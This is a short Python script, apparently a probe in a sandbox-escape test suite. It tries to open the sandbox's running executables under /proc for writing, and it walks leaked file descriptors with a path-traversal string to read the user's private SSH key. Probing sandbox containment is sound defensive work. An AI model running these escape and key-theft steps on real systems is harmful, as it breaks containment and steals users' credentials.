"""Overwrite the programs that run the sandbox, and climb by descriptors that they left open."""

import os

from prelude import attempt, facts, got, opens, read

for path in ("/proc/self/exe", "/proc/1/exe", f"/proc/{os.getppid()}/exe"):
    attempt(f"write {path}", lambda path=path: opens(path, os.O_WRONLY))
for number in range(3, 32):
    try:
        text = read(f"/proc/self/fd/{number}/../../../../../../../..{facts['home']}/.ssh/id_rsa")
    except OSError:
        continue
    got("the user's key", text)
